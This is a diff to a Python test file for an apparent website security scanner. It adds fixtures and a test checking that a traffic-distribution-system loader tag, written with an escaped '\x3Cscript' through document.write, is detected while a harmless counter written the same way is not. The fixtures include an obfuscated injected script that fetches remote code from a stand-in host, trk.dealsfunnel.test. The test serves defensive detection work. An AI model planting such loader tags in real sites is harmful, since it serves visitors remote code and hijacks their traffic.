@@ -432,6 +432,10 @@ TWINS: list[tuple[str, dict[str, str]]] = [
         "ref='+encodeURIComponent(document.referrer)+'&url='+encodeURIComponent(location.href)"
         "+'\"></scr'+'ipt>');</script><noscript><a href='//www.blogcount.example/'><img src="
         "'//xa.blogcount.example/bin/ll?190123' alt=''></a></noscript>")}),
+    ("an unknown counter writing its script as \\x3Cscript", {"footer": (
+        "<script>document.write('\\x3Cscript src=\"//ra.blogcount.example/analyze.js?uid=a1b2"
+        "&ref='+encodeURIComponent(document.referrer)+'\">\\x3C/script>');</script><noscript>"
+        "<img src='//xa.blogcount.example/bin/ll?190123' alt=''></noscript>")}),
     ("analytics pasted after </html>", {"after": (
         "<script async src='https://www.googletagmanager.com/gtag/js?id=G-H4RB0URGZT'>"
         "</script><script defer src='https://static.cloudflareinsights.com/beacon.min.js'>"
@@ -600,6 +604,21 @@ _CREATED = (
     "<script>var s=document.createElement('script');s.src='https://trk.dealsfunnel.test/x9Kc"
     "2p.js?r='+encodeURIComponent(document.referrer)+'&t='+encodeURIComponent(document."
     "title);document.head.appendChild(s);</script>")
+
+
+# Keitaro's tag written as the GA-era snippets write theirs, its `<` escaped
+_ESCAPED = (
+    "<script>document.write('\\x3Cscript src=\"https://trk.dealsfunnel.test/x9Kc2p.js?r='+"
+    "encodeURIComponent(document.referrer)+'\">\\x3C/script>');</script>")
+
+
+def test_a_tds_tag_written_with_an_escaped_angle_bracket_is_found(
+        audit_listed: AuditListed) -> None:
+    """A written tag was read only as `<script` (or `<scr'+'ipt`): `'\\x3Cscript src=…' +
+    document.referrer` loaded its script unseen (no finding); it is a TDS's tag. An
+    unknown counter written so, with its no-script image, is none (TWINS)."""
+    report = audit_listed(wp_page(footer=_ESCAPED), URL)
+    assert ("tds-loader", M) in [(f.kind, f.severity) for f in report.findings]
 
 
 @pytest.mark.parametrize("tag", [KEITARO, _CREATED], ids=["Keitaro's parameters",
